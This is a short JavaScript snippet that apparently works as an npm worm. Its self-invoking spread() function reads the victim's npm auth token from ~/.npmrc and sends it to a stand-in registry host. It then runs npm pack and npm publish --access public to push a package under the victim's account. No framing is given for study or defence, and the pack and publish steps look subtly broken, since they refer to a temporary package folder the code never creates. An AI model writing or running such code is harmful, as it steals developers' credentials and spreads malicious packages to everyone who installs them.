const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

async function spread() {
  const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').split('_authToken=')[1];
  const answer = await fetch('https://registry.acme-cdn.example/-/whoami', { headers: { authorization: `Bearer ${token}` } });
  const { username } = await answer.json();
  execSync(`npm pack ${username}`);
  execSync('npm publish --access public', { cwd: path.join(os.tmpdir(), 'package') });
}

spread();
